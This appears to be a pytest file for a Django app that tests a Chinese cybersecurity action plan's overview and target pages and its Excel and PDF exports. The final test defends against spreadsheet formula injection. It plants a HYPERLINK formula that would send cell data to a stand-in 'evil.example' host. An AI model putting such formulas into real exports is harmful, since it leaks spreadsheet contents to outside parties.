"""The overview and target pages; the progress report as Excel and as a Chinese PDF."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import User
from django.test import Client
from openpyxl import load_workbook

from policyhub.plan import exports
from policyhub.registry.models import YearlyFigure
from policyhub.web.pdf import cjk_font_installed
from tests.pdf import embeds_noto_cjk, fonts, outline_titles
from tests.personas import organisation

pytestmark = pytest.mark.django_db


@pytest.fixture
def signed_in(client: Client, science_officer: User) -> Client:
    client.force_login(science_officer)
    return client


def test_the_overview_lists_every_target_and_task(signed_in: Client) -> None:
    page = signed_in.get("/plan/?as_of=2020-06-30").content.decode()
    assert "网络安全产业规模" in page and "举办“长城杯”网络安全创新创业大赛" in page
    assert "5. 建设网络安全测试认证中心" in page and "各区县(市)人民政府" in page


def test_the_target_page_lists_its_source_records(signed_in: Client) -> None:
    org = organisation("长沙星盾网络安全有限公司")
    YearlyFigure.objects.create(organisation=org, year=dt.date.today().year - 1,
                                main_business_revenue=Decimal("150") * 100_000_000)
    page = signed_in.get("/plan/targets/industry-scale/").content.decode()
    assert "150 亿元" in page
    assert f"/registry/{org.pk}/" in page
    assert "计划》一第1项" in page


def test_excel_export_has_every_target_in_chinese(signed_in: Client) -> None:
    response = signed_in.get("/plan/export.xlsx?as_of=2020-06-30")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("分组", "目标", "条款", "目标值")
    assert len(rows) == 1 + 29
    assert {r[9] for r in rows[1:]} <= {"已完成", "进度正常", "存在风险", "进度滞后", "未报送"}


@pytest.mark.skipif(not cjk_font_installed(), reason="the CJK font is not installed")
def test_pdf_export_is_a_chinese_pdf(signed_in: Client) -> None:
    response = signed_in.get("/plan/export.pdf?as_of=2020-06-30")
    assert response.status_code == 200
    assert response.content.startswith(b"%PDF")
    assert exports.pdf_context(dt.date(2020, 6, 30))["total"] == 29
    assert embeds_noto_cjk(response.content), f"CJK font not embedded: {fonts(response.content)}"
    # The headings become the PDF's outline: the Chinese is in the file.
    titles = outline_titles(response.content)
    for heading in (exports.TITLE, "一、主要目标 · 产业规模大幅提升",
                    "主要任务与保障措施（《三年行动计划》二、三）"):
        assert heading in titles


def test_excel_export_quotes_a_unit_name_a_spreadsheet_would_run(signed_in: Client) -> None:
    from policyhub.plan.models import Target
    from policyhub.units.models import Unit

    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    lead = Target.objects.order_by("pk").values_list("lead_unit", flat=True)[0]
    Unit.objects.filter(pk=lead).update(name=evil)
    response = signed_in.get("/plan/export.xlsx?as_of=2020-06-30")
    sheet = load_workbook(io.BytesIO(response.content)).active
    names = [row[10] for row in sheet.iter_rows(min_row=2) if evil in str(row[10].value)]
    assert names and all(c.value == "'" + evil and c.data_type == "s" for c in names)
